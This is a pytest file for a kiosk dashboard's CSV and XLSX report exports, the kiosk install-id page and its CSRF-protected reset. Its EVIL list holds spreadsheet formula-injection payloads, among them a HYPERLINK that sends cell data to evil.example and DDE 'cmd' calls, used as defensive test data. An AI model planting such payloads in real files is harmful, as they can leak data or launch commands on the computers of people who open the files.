"""Contract guarantees of the exports and the kiosks page: no cell starts a formula, the
network's row cannot be taken by a commune, install ids are shown and can be reset."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging

import dashboard_seed as seed
import pytest
from dashboard_helpers import csrf_of, tables_of
from openpyxl import load_workbook

from sync.coordinator import kiosks, reports
from sync.coordinator.schema import kiosk_installs

DAY = dt.date(2026, 10, 5)
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝HYPERLINK(\"http://evil.example\")",
    "＋1", "－1", "＠SUM(A1)",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture
def evil(network):
    for i, name in enumerate(EVIL):
        seed.add_kiosk(network, f"{name} #{i}", name, dt.date(2026, 1, 1))
        seed.put_day(network, f"{name} #{i}", DAY, {"autre": 7, "service_public": 1})
    return network


def _text_cells_of_csv(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";")
            for cell in row]


def _assert_no_formula_in_workbook(data: bytes) -> int:
    checked = 0
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA), (ws.title, cell.value)
                    checked += 1
    return checked


def test_csv_and_xlsx_quarter_exports_start_no_formula(evil, client):
    csv_answer = client.get("/rapports/trimestre?trimestre=2026-Q4&format=csv")
    cells = _text_cells_of_csv(csv_answer.content)
    assert not [c for c in cells if c.startswith(FORMULA)]
    # the name is kept, readable, behind the apostrophe spreadsheets hide
    assert "'" + EVIL[0] in cells
    # numbers stay numbers
    line = next(r for r in csv.reader(io.StringIO(csv_answer.content.decode("utf-8-sig")),
                                      delimiter=";") if r[1] == "'" + EVIL[0] and r[2] == "Total")
    assert line[4] == "8"
    xlsx = client.get("/rapports/trimestre?trimestre=2026-Q4&format=xlsx").content
    assert _assert_no_formula_in_workbook(xlsx) > 50
    sheet = load_workbook(io.BytesIO(xlsx))["Réseau"]
    assert any(isinstance(c.value, int) for c in sheet["C"])


def test_annual_xlsx_and_cli_files_start_no_formula(evil, client, tmp_path):
    xlsx = client.get("/rapports/annuel?annee=2026&format=xlsx").content
    _assert_no_formula_in_workbook(xlsx)
    communes = [c.value for c in load_workbook(io.BytesIO(xlsx))["Par commune"]["A"]]
    assert "'" + EVIL[0] in communes
    for fmt in ("csv", "xlsx"):
        path = reports.write_report(evil, "2026-Q4", fmt, tmp_path / f"q.{fmt}")
        if fmt == "csv":
            assert not [c for c in _text_cells_of_csv(path.read_bytes()) if c.startswith(FORMULA)]
        else:
            _assert_no_formula_in_workbook(path.read_bytes())


@pytest.mark.parametrize("text", ["\tcmd", "\r=1", "=1", "-1", "@x", "＝1", "﹦1"])
def test_cell_text_neutralises_every_formula_start(text):
    assert reports.cell_text(text) == "'" + text
    assert reports.cell_text(-1) == -1 and reports.cell_text("Crolles") == "Crolles"


def test_a_commune_named_like_the_network_does_not_replace_its_total(network):
    label = str(reports.NETWORK)
    seed.add_kiosk(network, "Imposteur", label, dt.date(2026, 1, 1))
    seed.put_day(network, "Imposteur", DAY, {"autre": 3})
    table = reports.quarter_table(network, "2026-Q4")
    network_sheet = next(s for s in table.sheets if s.network)
    commune_sheet = next(s for s in table.sheets if not s.network and s.title == label)
    assert commune_sheet.total == 3
    assert network_sheet.total == sum(r["count"] for r in table.kiosk_rows) > 3


@pytest.mark.parametrize(("text", "quarter"), [("2026-Q3", "2026-Q3"), ("2026-T3", "2026-Q3"),
                                               ("2026-q3", "2026-Q3"), (" 2026-t4 ", "2026-Q4")])
def test_quarters_are_read_in_french_and_any_case(network, text, quarter):
    assert reports.quarter_table(network, text).quarter == quarter


def _install(engine, name: str, install_id: str) -> None:
    kid = seed.kiosk_id(engine, name)
    with engine.begin() as conn:
        conn.execute(kiosk_installs.insert().values(
            kiosk_id=kid, install_id=install_id,
            first_seen_at=dt.datetime(2026, 11, 1, 9, tzinfo=dt.UTC)))


def test_kiosks_page_shows_install_ids_and_resets_them_logged(client, network, caplog):
    ids = [f"00000000-0000-4000-8000-00000000000{i}" for i in (1, 2, 3)]
    for install_id in ids:
        _install(network, "Pontcharra", install_id)
    page = client.get("/bornes")
    rows = {r[0]: r for r in tables_of(page.text)["table-bornes"][1:]}
    assert all(i in rows["Pontcharra"][5] for i in ids)
    assert "3 installations" in rows["Pontcharra"][6]
    kid = seed.kiosk_id(network, "Pontcharra")
    with caplog.at_level(logging.WARNING, logger="sync.coordinator.kiosks"):
        answer = client.post(f"/bornes/{kid}/reinitialiser", data={"csrf": csrf_of(page.text)},
                             follow_redirects=False)
    assert answer.status_code == 303
    assert "Pontcharra" in caplog.text and "coordinatrice" in caplog.text
    assert next(k for k in kiosks.list_kiosks(network) if k.name == "Pontcharra").installs == ()
    rows = {r[0]: r for r in tables_of(client.get("/bornes").text)["table-bornes"][1:]}
    assert rows["Pontcharra"][5] == "aucune"


def test_reset_without_csrf_changes_nothing(client, network):
    _install(network, "Pontcharra", "00000000-0000-4000-8000-000000000001")
    kid = seed.kiosk_id(network, "Pontcharra")
    answer = client.post(f"/bornes/{kid}/reinitialiser", data={"csrf": "x"})
    assert answer.status_code == 403
    assert len(kiosks.get_kiosk(network, kid).installs) == 1
